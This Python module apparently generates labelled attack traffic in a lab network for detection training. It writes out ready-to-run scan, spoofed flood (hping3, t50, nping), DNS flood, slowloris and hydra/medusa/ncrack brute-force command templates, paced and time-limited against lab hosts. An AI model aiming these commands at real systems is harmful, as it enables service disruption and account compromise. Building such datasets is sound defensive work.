"""The attack tools: each mode is a function that draws parameters and gives the command, its victims and its time limit.

Floods are paced to some hundred to a few thousand packets a second; a burst at full speed lasts tenths of a second.
Modes marked `demo` are used by the demo profile only, those marked `first` by the training profile only.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from training.lab.habits import port
from training.lab.plan import Attack, Capture

Run = tuple[str, str, list[str], float]
"""Tool, command, victims, seconds at most."""


@dataclass(frozen=True)
class Mode:
    """A tool in one of its modes. `spoofed`: the packets' sources are not the attacker's own. `six`: needs IPv6."""

    label: str
    profile: str
    draw: Callable[[Field], Run]
    spoofed: bool = False
    six: bool = False


class Field:
    """What a mode needs of a capture: the attacker's address, victims and ports, and random choices."""

    def __init__(self, capture: Capture, rng: random.Random) -> None:
        self.capture, self.rng = capture, rng
        self.words: dict[str, list[str]] = {}
        self.light = capture.profile == "demo"

    def at(self, host: str, six: bool = False) -> str:
        """Address of a host."""
        found = self.capture.host(host)
        return found.address6 if six else found.address

    @property
    def server(self) -> str:
        """One of the servers' names."""
        return self.rng.choice(["web", "files", "infra"])

    def ports(self, host: str) -> list[int]:
        """Ports of a host's services."""
        return [service.port for service in self.capture.host(host).services if service.name != "app"]

    def web(self, six: bool = False) -> str:
        """Base URL of the web server."""
        where = f"[{self.at('web', True)}]" if six else self.at("web")
        return f"http://{where}:{port(self.capture, 'web', 'http')}"

    def mac(self, host: str) -> str:
        """Link address of a host, for tools with a stack of their own."""
        return self.capture.host(host).mac

    def devices(self) -> list[str]:
        """IPv4 addresses of the devices."""
        return [a for a in self.capture.host("iot").plain() if ":" not in a]

    def range(self) -> str:
        """The inner network in CIDR form."""
        return self.at("web").rsplit(".", 1)[0] + ".0/24"

    def count(self, seconds: float, rate: float) -> int:
        """Packets for a flood of that length; the demo's floods are short."""
        return int(min(seconds * rate, self.rng.randint(1200, 1900) if self.light else 9000))

    def list(self, name: str, lines: list[str]) -> str:
        """Write a word list; returns its path in commands."""
        name = f"{name}{len(self.words)}.txt"
        self.words[name] = lines
        return f"{{work}}/{name}"

    def users(self) -> str:
        """A short list of accounts, the real one among them."""
        names = ["root", "admin", "test", "pi", "ubuntu", "oracle", "guest", "git", "ftp", "www"]
        return self.list("users", [*self.rng.sample(names, self.rng.randint(2, 5)), self.capture.user])

    def passwords(self, count: int) -> str:
        """A list of passwords; the right one is not in it."""
        stems = ["123456", "password", "qwerty", "admin", "letmein", "dragon", "secret", "monkey", "summer", "raspberry"]
        return self.list("pass", [f"{self.rng.choice(stems)}{self.rng.choice(['', '!', self.rng.randrange(10000)])}" for _ in range(count)])

    def paths(self, count: int) -> str:
        """A list of web paths from dirb's common words."""
        common = Path("/usr/share/dirb/wordlists/common.txt")
        words = [w for w in common.read_text(errors="ignore").split() if w.isascii()] if common.exists() else [f"dir{i}" for i in range(2000)]
        return self.list("paths", self.rng.sample(words, count))


MODES: dict[str, Mode] = {}


def mode(label: str, profile: str = "first", spoofed: bool = False, six: bool = False) -> Callable[[Callable[[Field], Run]], Callable[[Field], Run]]:
    """Enter a mode under its function's name."""

    def enter(draw: Callable[[Field], Run]) -> Callable[[Field], Run]:
        MODES[draw.__name__] = Mode(label, profile, draw, spoofed, six)
        return draw

    return enter


def attack(name: str, capture: Capture, rng: random.Random, at: float) -> tuple[Attack, dict[str, list[str]]]:
    """Draw the attack of a mode for a capture; also returns the word lists it reads."""
    chosen, field = MODES[name], Field(capture, rng)
    tool, command, victims, limit = chosen.draw(field)
    own = capture.host("att").plain()
    real = [a for a in own if (":" in a) == chosen.six]
    attackers = ["spoofed", *real] if chosen.spoofed else real
    return Attack(chosen.label, tool, command, attackers, victims, round(at, 2), limit), field.words


# Reconnaissance: operating system


def _few_ports(f: Field, host: str) -> str:
    closed = f.rng.sample(range(1025, 60000), 2)
    return ",".join(map(str, sorted({*f.ports(host)[:3], *closed})))


@mode("OS Scan", "both")
def os_nmap_ports(f: Field) -> Run:
    host = f.server
    return "nmap -O", f"nmap -n -Pn -O -p {_few_ports(f, host)} -T{f.rng.choice([3, 4])} {f.at(host)}", [f.at(host)], 20


@mode("OS Scan")
def os_nmap_guess(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -O --osscan-guess", f"nmap -n -O -F --osscan-guess --max-os-tries {f.rng.randint(2, 4)} {v}", [v], 20


@mode("OS Scan")
def os_nmap_sweep(f: Field) -> Run:
    hosts = f.rng.sample(f.devices(), 4) + [f.at("web"), f.at("files")]
    return "nmap -O sweep", f"nmap -n -O --osscan-limit -p 22,80,443,1883,{f.rng.randint(2000, 9000)} -T4 {' '.join(hosts)}", hosts, 25


@mode("OS Scan", six=True)
def os_nmap_six(f: Field) -> Run:
    host = f.server
    v = f.at(host, True)
    return "nmap -6 -O", f"nmap -6 -n -Pn -O -p {_few_ports(f, host)} {v}", [v], 20


@mode("OS Scan")
def os_nmap_two(f: Field) -> Run:
    hosts = [f.at("web"), f.at("infra"), f.at("files")]
    return "nmap -O --top-ports", f"nmap -n -O --top-ports {f.rng.choice([10, 30])} --max-rate {f.rng.choice([60, 200])} {' '.join(hosts)}", hosts, 25


@mode("OS Scan")
def os_hping(f: Field) -> Run:
    """The probes by which a stack is told from others, sent by hand: odd flags, ICMP timestamp and mask, a closed UDP port."""
    v, opened, closed = f.at("web"), port(f.capture, "web", "http"), f.rng.randint(30000, 60000)
    probes = [f"-S -p {opened} --tcp-timestamp", f"-p {opened}", f"-S -F -U -P -p {opened}", f"-A -p {opened}", f"-S -p {closed}"]
    probes += [f"-A -p {closed}", f"-F -P -U -p {closed}", f"-2 -p {closed} -d 300", "-1 -C 13", "-1 -C 17", "-1 -C 8 -d 120", f"-S -X -Y -p {opened}"]
    runs = "; ".join(f"timeout 2 hping3 -q -c {f.rng.randint(2, 4)} -i u{f.rng.choice([50000, 100000])} {probe} {v}" for probe in probes)
    return "hping3 stack probes", runs, [v], 25


@mode("OS Scan")
def os_nmap_slow(f: Field) -> Run:
    host = f.server
    return "nmap -O -sT", f"nmap -n -Pn -sT -O --scan-delay {f.rng.choice([20, 60])}ms -p {_few_ports(f, host)} {f.at(host)}", [f.at(host)], 22


@mode("OS Scan", "demo")
def os_nping(f: Field) -> Run:
    v, opened, closed = f.at("files"), f.ports("files")[0], f.rng.randint(30000, 60000)
    flags = ["syn,ece,cwr", "none", "syn,fin,urg,psh", "ack", "fin,psh,urg"]
    runs = [f"nping -q -c 3 --rate 8 --tcp -p {opened},{closed} --flags {flag} --win {f.rng.choice([1, 63, 4, 512])} {v}" for flag in flags]
    runs += [f"nping -q -c 3 --rate 8 --icmp --icmp-type {kind} {v}" for kind in ("timestamp", "mask", "echo")]
    return "nping stack probes", "; ".join(runs), [v], 14


# Reconnaissance: vulnerabilities


@mode("Vulnerability Scan")
def vuln_nmap(f: Field) -> Run:
    host = f.server
    ports = ",".join(map(str, f.ports(host)))
    return "nmap --script vuln", f"nmap -n -Pn --script vuln --script-timeout 18s -p {ports} {f.at(host)}", [f.at(host)], 25


@mode("Vulnerability Scan")
def vuln_nmap_all(f: Field) -> Run:
    host = f.rng.choice(["web", "files"])
    return "nmap -A", f"nmap -n -Pn -A -p {','.join(map(str, f.ports(host)))} {f.at(host)}", [f.at(host)], 25


@mode("Vulnerability Scan")
def vuln_wapiti(f: Field) -> Run:
    command = f"wapiti -u {f.web()}/app/ --flush-session --scope folder -d 2 --max-scan-time 15 -m sql,xss,file,exec --store-session {{work}}/wapiti"
    return "wapiti", command, [f.at("web")], 22


@mode("Vulnerability Scan")
def vuln_whatweb(f: Field) -> Run:
    hosts = [f.at("web"), *f.devices()[:4]]
    urls = " ".join([f.web(), f.web() + "/app/", *(f"http://{host}" for host in hosts[1:])])
    return "whatweb", f"whatweb -a {f.rng.choice([3, 4])} -t 8 --no-errors {urls}", hosts, 20


@mode("Vulnerability Scan")
def vuln_sqlmap(f: Field) -> Run:
    command = f"sqlmap -u '{f.web()}/app/item?id={f.rng.randint(1, 50)}' --batch --flush-session --level {f.rng.choice([2, 3])} --output-dir {{work}}/sql"
    return "sqlmap", command, [f.at("web")], 20


@mode("Vulnerability Scan")
def vuln_dirb(f: Field) -> Run:
    return "dirb", f"dirb {f.web()}/ {f.paths(f.rng.randint(300, 900))} -S -r -z {f.rng.choice([5, 15])}", [f.at("web")], 15


@mode("Vulnerability Scan")
def vuln_nmap_http(f: Field) -> Run:
    scripts = "http-enum,http-headers,http-methods,http-sql-injection,http-shellshock,http-config-backup"
    command = f"nmap -n -Pn --script {scripts} --script-timeout 15s -p {port(f.capture, 'web', 'http')},443 {f.at('web')}"
    return "nmap --script http", command, [f.at("web")], 20


@mode("Vulnerability Scan", "demo")
def vuln_gobuster(f: Field) -> Run:
    return "gobuster dir", f"gobuster dir -q -z -t {f.rng.choice([3, 6])} --delay 20ms -u {f.web()}/ -w {f.paths(350)}", [f.at("web")], 9


@mode("Vulnerability Scan", "demo")
def vuln_nmap_safe(f: Field) -> Run:
    hosts = [f.at("files"), f.at("web")]
    scripts = "ssh2-enum-algos,ssh-auth-methods,ssl-enum-ciphers,ftp-anon,ftp-syst,telnet-encryption,http-title,http-vuln-cve2017-5638"
    return "nmap --script ssl,ssh,ftp", f"nmap -n -Pn -sV --script {scripts} -p {','.join(map(str, {*f.ports('files'), *f.ports('web'), 443}))} {' '.join(hosts)}", hosts, 22


# Reconnaissance: ports


@mode("Port Scan")
def port_syn(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -sS", f"nmap -n -Pn -sS --max-rate {f.rng.choice([150, 400, 1500])} {v}", [v], 14


@mode("Port Scan")
def port_connect(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -sT", f"nmap -n -Pn -sT -p 1-{f.rng.randint(400, 2000)} -T{f.rng.choice([3, 4])} {v}", [v], 12


@mode("Port Scan")
def port_udp(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -sU", f"nmap -n -Pn -sU --top-ports {f.rng.randint(60, 200)} --max-retries 1 --min-rate {f.rng.choice([20, 60])} {v}", [v], 14


@mode("Port Scan")
def port_version(f: Field) -> Run:
    host = f.rng.choice(["files", "web"])
    return "nmap -sV", f"nmap -n -Pn -sV --version-intensity {f.rng.choice([2, 7])} -F {f.at(host)}", [f.at(host)], 22


@mode("Port Scan")
def port_odd(f: Field) -> Run:
    v, kind = f.at(f.server), f.rng.choice(["-sF", "-sX", "-sN"])
    return f"nmap {kind}", f"nmap -n -Pn {kind} -p 1-{f.rng.randint(300, 900)} --max-rate {f.rng.choice([100, 300])} {v}", [v], 12


@mode("Port Scan")
def port_sweep(f: Field) -> Run:
    return "nmap -sS sweep", f"nmap -n -sS -p {f.rng.choice(['22', '23,80', '443,8080,1883'])} --max-retries 1 -T4 {f.range()}", [f.range()], 16


@mode("Port Scan")
def port_masscan(f: Field) -> Run:
    host, rate = f.server, f.rng.choice([200, 500, 900])
    command = f"masscan {f.at(host)} -p1-{f.rng.randint(1500, 4000)} --rate {rate} --wait 1 --adapter eth0 --router-mac {f.mac(host)} --adapter-ip {f.at('att')}"
    return "masscan", command, [f.at(host)], 10


@mode("Port Scan")
def port_masscan_sweep(f: Field) -> Run:
    command = f"masscan {f.range()} -p22,80,443,554,1883 --rate {f.rng.choice([150, 300])} --wait 1 --adapter eth0 --router-mac {f.mac('iot')} --adapter-ip {f.at('att')}"
    return "masscan sweep", command, [f.range()], 12


@mode("Port Scan")
def port_hping(f: Field) -> Run:
    v = f.at(f.server)
    return "hping3 --scan", f"hping3 --scan 1-{f.rng.randint(600, 1800)} -S {v}", [v], 10


@mode("Port Scan")
def port_nc(f: Field) -> Run:
    v, low = f.at(f.server), f.rng.randint(1, 80)
    return "nc -z", f"nc -n -z -w 1 {v} {low}-{low + f.rng.randint(400, 1500)}", [v], 10


@mode("Port Scan")
def port_slow(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -sS slow", f"nmap -n -Pn -sS --scan-delay {f.rng.choice([30, 100, 250])}ms --top-ports 100 {v}", [v], 18


@mode("Port Scan", six=True)
def port_six(f: Field) -> Run:
    v = f.at(f.server, True)
    return "nmap -6 -sS", f"nmap -6 -n -Pn -sS -F --max-rate {f.rng.choice([100, 300])} {v}", [v], 12


@mode("Port Scan", "demo")
def port_pnscan(f: Field) -> Run:
    v = f.at("files")
    return "pnscan", f"pnscan -w{f.rng.choice([4, 12])} {v} 1:{f.rng.randint(500, 900)}", [v], 8


@mode("Port Scan", "demo")
def port_zmap(f: Field) -> Run:
    command = f"zmap -q -p {f.rng.choice([80, 1883])} -i eth0 -G {f.mac('iot')} -S {f.at('att')} -r 60 -c 1 -b /dev/null -o /dev/null {f.range()}"
    return "zmap", command, [f.range()], 10


@mode("Port Scan", "demo")
def port_maimon(f: Field) -> Run:
    v = f.at("web")
    return "nmap -sA", f"nmap -n -Pn -sA -p 1-{f.rng.randint(300, 700)} --max-rate 150 {v}", [v], 9


# Denial of service: ICMP


@mode("ICMP Flood")
def icmp_hping(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([400, 900, 2000])
    return "hping3 -1", f"hping3 -q -1 -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([0, 56, 400, 1200])} {v}", [v], 10


@mode("ICMP Flood", spoofed=True)
def icmp_hping_spoofed(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([700, 1500])
    return "hping3 -1 --rand-source", f"hping3 -q -1 --rand-source -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([8, 120])} {v}", [v], 9


@mode("ICMP Flood")
def icmp_hping_full(f: Field) -> Run:
    v = f.at(f.server)
    return "hping3 -1 --flood", f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 18)} hping3 -q -1 --flood -d {f.rng.choice([0, 64])} {v}; sleep 1.5; done", [v], 9


@mode("ICMP Flood")
def icmp_ping(f: Field) -> Run:
    v = f.at(f.server)
    return "ping -f", f"ping -n -q -f -i 0.00{f.rng.randint(1, 3)} -w 7 -s {f.rng.choice([56, 500, 1400])} {v}", [v], 9


@mode("ICMP Flood", six=True)
def icmp_ping_six(f: Field) -> Run:
    v = f.at(f.server, True)
    return "ping -6 -f", f"ping -6 -n -q -f -i 0.00{f.rng.randint(1, 3)} -w 6 -s {f.rng.choice([32, 800])} {v}", [v], 9


@mode("ICMP Flood")
def icmp_nping(f: Field) -> Run:
    v, kind = f.at(f.server), f.rng.choice(["echo", "timestamp"])
    rate = f.rng.choice([500, 1200])
    return "nping --icmp", f"nping -q -N --icmp --icmp-type {kind} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([0, 300])} {v}", [v], 9


@mode("ICMP Flood", "demo", spoofed=True)
def icmp_t50(f: Field) -> Run:
    v = f.at("web")
    return "t50 ICMP", f"timeout 0.08 t50 {v} --protocol ICMP --flood --shuffle 2>&1 | tail -3 || true", [v], 6


@mode("ICMP Flood", "demo")
def icmp_fping(f: Field) -> Run:
    v = f.at("infra")
    return "fping -p 1", f"fping -q -c {f.rng.randint(500, 800)} -p 2 -b {f.rng.choice([120, 700])} {v}", [v], 8


# Denial of service: SYN


def _web_port(f: Field) -> int:
    return port(f.capture, "web", "http")


@mode("SYN Flood", "both")
def syn_hping(f: Field) -> Run:
    pause = f.rng.choice([500, 1200, 3000])
    return "hping3 -S", f"hping3 -q -S -p {_web_port(f)} -i u{pause} -c {f.count(7, 1e6 / pause)} -w {f.rng.choice([512, 5840, 64240])} {f.at('web')}", [f.at("web")], 10


@mode("SYN Flood", spoofed=True)
def syn_hping_spoofed(f: Field) -> Run:
    host, pause = f.rng.choice(["web", "files"]), f.rng.choice([400, 1000, 2500])
    return "hping3 -S --rand-source", f"hping3 -q -S --rand-source -p {f.ports(host)[0]} -i u{pause} -c {f.count(7, 1e6 / pause)} {f.at(host)}", [f.at(host)], 10


@mode("SYN Flood")
def syn_hping_full(f: Field) -> Run:
    host = f.rng.choice(["web", "infra"])
    number = 443 if host == "web" else 1883
    return "hping3 -S --flood", f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 16)} hping3 -q -S --flood -p {number} {f.at(host)}; sleep 1; done", [f.at(host)], 9


@mode("SYN Flood")
def syn_nping(f: Field) -> Run:
    host, rate = f.rng.choice(["web", "files"]), f.rng.choice([300, 900])
    command = f"nping -q -N --tcp --flags syn -g {f.rng.randint(1024, 60000)} -p {f.ports(host)[0]} --rate {rate} -c {f.count(6, rate)} {f.at(host)}"
    return "nping --tcp", command, [f.at(host)], 9


@mode("SYN Flood")
def syn_hping_many(f: Field) -> Run:
    """Several machines at once: the attacking host has several addresses."""
    sources = [a for a in f.capture.host("att").plain() if ":" not in a]
    pause = f.rng.choice([3000, 6000])
    one = "hping3 -q -S -a {src} -p {port} -i u{pause} -c {count} {v} &"
    count = f.count(6, 1e6 / pause)
    runs = " ".join(one.format(src=src, port=_web_port(f), pause=pause, count=count, v=f.at("web")) for src in sources)
    return "hping3 -S, many hosts", f"{runs} wait", [f.at("web")], 10


@mode("SYN Flood", six=True)
def syn_nping_six(f: Field) -> Run:
    v, rate = f.at("web", True), f.rng.choice([300, 800])
    return "nping -6 --tcp", f"nping -q -N -6 --tcp --flags syn -g {f.rng.randint(1024, 60000)} -p {_web_port(f)} --rate {rate} -c {f.count(6, rate)} {v}", [v], 9


@mode("SYN Flood", "demo", spoofed=True)
def syn_trafgen(f: Field) -> Run:
    config = [
        f"{{ eth(sa={f.mac('att')}, da={f.mac('web')}), ipv4(ttl=57, id=drnd(), sa=drnd(), da={f.at('web')}),",
        f"  tcp(sport=drnd(), dport={_web_port(f)}, seq=drnd(), win=8192, syn) }}",
    ]
    return "trafgen SYN", f"trafgen -q --cpus 1 -o eth0 -n 1500 --rate 500pps -i {f.list('trafgen', config)}", [f.at("web")], 6


# Denial of service: UDP


@mode("UDP Flood", "both")
def udp_hping(f: Field) -> Run:
    host, pause = f.server, f.rng.choice([500, 1200, 2500])
    number = f.rng.choice([f.rng.randint(1024, 65000), 123, 161, 7])
    return "hping3 -2", f"hping3 -q -2 -p {number} -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([16, 200, 800, 1200])} {f.at(host)}", [f.at(host)], 10


@mode("UDP Flood")
def udp_hping_ports(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([600, 1500])
    return "hping3 -2 -p ++", f"hping3 -q -2 -p ++{f.rng.randint(1, 20000)} -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([64, 512])} {v}", [v], 9


@mode("UDP Flood", spoofed=True)
def udp_hping_spoofed(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([700, 1800])
    return "hping3 -2 --rand-source", f"hping3 -q -2 --rand-source -p {f.rng.randint(1000, 60000)} -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([32, 700])} {v}", [v], 9


@mode("UDP Flood")
def udp_hping_full(f: Field) -> Run:
    v = f.at(f.server)
    return "hping3 -2 --flood", f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 16)} hping3 -q -2 --flood -p {f.rng.randint(1000, 60000)} -d {f.rng.choice([100, 900])} {v}; sleep 1; done", [v], 9


@mode("UDP Flood")
def udp_nping(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([400, 1000])
    return "nping --udp", f"nping -q -N --udp -p {f.rng.randint(1000, 60000)} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([40, 600, 1300])} {v}", [v], 9


@mode("UDP Flood", six=True)
def udp_nping_six(f: Field) -> Run:
    v, rate = f.at(f.server, True), f.rng.choice([400, 900])
    return "nping -6 --udp", f"nping -q -N -6 --udp -p {f.rng.choice([123, 161, 5000])} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([80, 900])} {v}", [v], 9


@mode("UDP Flood", "demo", spoofed=True)
def udp_t50(f: Field) -> Run:
    v = f.at("files")
    return "t50 UDP", f"timeout 0.08 t50 {v} --protocol UDP --flood --dport {f.rng.randint(1000, 60000)} 2>&1 | tail -3 || true", [v], 6


# Denial of service: DNS


def _names(f: Field, count: int) -> list[str]:
    kinds = ["A", "AAAA", "TXT", "MX", "ANY"]
    return [f"x{f.rng.randrange(16**6):06x}.{f.rng.choice([*f.capture.zones, 'lab.test'])} {f.rng.choice(kinds)}" for _ in range(count)]


@mode("DNS Flood")
def dns_perf(f: Field) -> Run:
    rate, v = f.rng.choice([300, 700, 1500]), f.at("infra")
    return "dnsperf", f"dnsperf -s {v} -d {f.list('names', _names(f, 2000))} -Q {rate} -l {f.rng.randint(4, 7)} -c {f.rng.choice([1, 4, 20])}", [v], 12


@mode("DNS Flood", six=True)
def dns_perf_six(f: Field) -> Run:
    rate, v = f.rng.choice([300, 800]), f.at("infra", True)
    return "dnsperf IPv6", f"dnsperf -f inet6 -s {v} -d {f.list('names', _names(f, 1500))} -Q {rate} -l 5 -c {f.rng.choice([1, 8])}", [v], 12


@mode("DNS Flood")
def dns_dig(f: Field) -> Run:
    """One dig for every fifty names, several at once: a new socket for each query."""
    v, path = f.at("infra"), f.list("names", _names(f, 3000))
    return "dig loop", f"split -l 50 {path} {{work}}/dig- && ls {{work}}/dig-* | timeout 7 xargs -P {f.rng.choice([4, 10])} -n 1 dig @{v} +tries=1 +timeout=1 -f", [v], 10


@mode("DNS Flood", spoofed=True)
def dns_hping_spoofed(f: Field) -> Run:
    name = f"x{f.rng.randrange(16**5):x}"
    zone = f.capture.zones[0].split(".")
    labels = "".join(f"\\{len(part):03o}{part}" for part in [name, *zone])
    pause, v = f.rng.choice([700, 1600]), f.at("infra")
    size = 12 + sum(len(part) + 1 for part in [name, *zone]) + 5
    query = f"printf '\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000{labels}\\000\\000\\001\\000\\001' > {{work}}/query"
    return "hping3 -2 -p 53", f"{query}; hping3 -q -2 -p 53 --rand-source -i u{pause} -c {f.count(6, 1e6 / pause)} -E {{work}}/query -d {size} {v}", [v], 10


@mode("DNS Flood")
def dns_nping(f: Field) -> Run:
    zone = f.rng.choice(f.capture.zones).split(".")
    query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"".join(bytes([len(p)]) + p.encode() for p in ["www", *zone]) + b"\0\0\xff\0\x01"
    rate, v = f.rng.choice([400, 900]), f.at("infra")
    return "nping --udp -p 53", f"nping -q -N --udp -p 53 -g {f.rng.randint(1024, 60000)} --rate {rate} -c {f.count(6, rate)} --data {query.hex()} {v}", [v], 9


@mode("DNS Flood", "demo")
def dns_resperf(f: Field) -> Run:
    v = f.at("infra")
    return "resperf", f"cd {{work}} && resperf -s {v} -d {f.list('names', _names(f, 900))} -m 500 -r 3 -c 1 -L 30", [v], 6


@mode("DNS Flood", "demo")
def dns_perf_any(f: Field) -> Run:
    v = f.at("infra")
    names = [name.rsplit(" ", 1)[0] + " ANY" for name in _names(f, 400)]
    return "dnsperf ANY", f"dnsperf -s {v} -d {f.list('names', names)} -Q 250 -n 3 -l 4 -c 3 -e", [v], 8


# Denial of service: slow HTTP


@mode("Slowloris")
def slow_headers(f: Field) -> Run:
    n = f.rng.randint(100, 350)
    return "slowhttptest -H", f"slowhttptest -H -c {n} -r {f.rng.choice([20, 50])} -i {f.rng.choice([1, 3, 5])} -x {f.rng.choice([10, 24])} -l 16 -u {f.web()}/ -p 3", [f.at("web")], 20


@mode("Slowloris")
def slow_body(f: Field) -> Run:
    n = f.rng.randint(80, 300)
    return "slowhttptest -B", f"slowhttptest -B -c {n} -r {f.rng.choice([20, 60])} -i {f.rng.choice([1, 2, 4])} -s {f.rng.choice([4096, 8192])} -x 10 -l 16 -u {f.web()}/app/upload -p 3", [f.at("web")], 20


@mode("Slowloris")
def slow_nmap(f: Field) -> Run:
    n = f.rng.randint(80, 200)
    args = f"http-slowloris.send_interval={f.rng.choice([1, 2, 4])}s,http-slowloris.timelimit=14s"
    return "nmap http-slowloris", f"nmap -n -Pn -p {_web_port(f)} --script http-slowloris --script-args {args} --max-parallelism {n} {f.at('web')}", [f.at("web")], 20


@mode("Slowloris")
def slow_plain(f: Field) -> Run:
    command = f"python3 -E {{here}}/slowloris.py {f.at('web')} {_web_port(f)} --sockets {f.rng.randint(60, 250)} --pause {f.rng.choice([1, 2, 4])} --seconds 15"
    return "slowloris.py", command, [f.at("web")], 20


@mode("Slowloris", six=True)
def slow_headers_six(f: Field) -> Run:
    command = f"python3 -E {{here}}/slowloris.py {f.at('web', True)} {_web_port(f)} --sockets {f.rng.randint(60, 200)} --pause {f.rng.choice([1, 3])} --seconds 14"
    return "slowloris.py IPv6", command, [f.at("web", True)], 20


@mode("Slowloris", "demo")
def slow_read(f: Field) -> Run:
    n = f.rng.randint(60, 120)
    return "slowhttptest -X", f"slowhttptest -X -c {n} -r 30 -w 10 -y 20 -n 2 -z 8 -k 1 -l 10 -u {f.web()}/big.bin -p 3", [f.at("web")], 14


@mode("Slowloris", "demo")
def slow_headers_tls(f: Field) -> Run:
    command = f"slowhttptest -H -c {f.rng.randint(60, 120)} -r 30 -i 2 -x 40 -l 11 -u https://{f.at('web')}/ -p 3"
    return "slowhttptest -H, TLS", command, [f.at("web")], 14


# Brute force


def _login(f: Field, service: str) -> tuple[str, int]:
    return f.at("files"), port(f.capture, "files", service)


@mode("Dictionary Attack")
def dict_hydra_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return "hydra ssh", f"hydra -I -L {f.users()} -P {f.passwords(80)} -t {f.rng.choice([2, 4, 8])} -s {number} {v} ssh", [v], 15


@mode("Dictionary Attack")
def dict_hydra_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    return "hydra ftp", f"hydra -I -l {f.capture.user} -P {f.passwords(300)} -t {f.rng.choice([4, 16])} -s {number} {v} ftp", [v], 15


@mode("Dictionary Attack")
def dict_hydra_telnet(f: Field) -> Run:
    v, number = _login(f, "telnet")
    return "hydra telnet", f"hydra -I -L {f.users()} -P {f.passwords(100)} -t {f.rng.choice([4, 8])} -s {number} {v} telnet", [v], 15


@mode("Dictionary Attack")
def dict_hydra_http(f: Field) -> Run:
    command = f"hydra -I -l {f.capture.user} -P {f.passwords(600)} -t {f.rng.choice([2, 8])} -s {_web_port(f)} {f.at('web')} http-get /admin/"
    return "hydra http-get", command, [f.at("web")], 10


@mode("Dictionary Attack")
def dict_medusa_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return "medusa ssh", f"medusa -h {v} -n {number} -U {f.users()} -P {f.passwords(60)} -t {f.rng.choice([2, 5])} -M ssh", [v], 15


@mode("Dictionary Attack")
def dict_medusa_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    return "medusa ftp", f"medusa -h {v} -n {number} -u {f.capture.user} -P {f.passwords(200)} -t {f.rng.choice([3, 8])} -M ftp", [v], 14


@mode("Dictionary Attack")
def dict_ncrack_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return "ncrack ssh", f"ncrack -T{f.rng.choice([3, 4])} --user admin,root,{f.capture.user} -P {f.passwords(100)} ssh://{v}:{number}", [v], 15


@mode("Dictionary Attack")
def dict_ncrack_http(f: Field) -> Run:
    command = f"ncrack -T4 --user admin,{f.capture.user} -P {f.passwords(300)} http://{f.at('web')}:{_web_port(f)},path=/admin/"
    return "ncrack http", command, [f.at("web")], 12


@mode("Dictionary Attack", six=True)
def dict_hydra_six(f: Field) -> Run:
    v = f.at("files", True)
    return "hydra -6 ssh", f"hydra -6 -I -L {f.users()} -P {f.passwords(60)} -t 4 -s {port(f.capture, 'files', 'ssh')} {v} ssh", [v], 14


@mode("Dictionary Attack", "demo")
def dict_patator_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    command = f"patator ftp_login host={v} port={number} user=FILE0 password=FILE1 0={f.users()} 1={f.passwords(60)} -t 6"
    return "patator ftp_login", command, [v], 10


@mode("Dictionary Attack", "demo")
def dict_nmap_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    args = f"userdb={f.users()},passdb={f.passwords(40)},brute.firstonly=false"
    return "nmap ssh-brute", f"nmap -n -Pn -p {number} --script +ssh-brute --script-args {args},ssh-brute.timeout=4s {v}", [v], 12
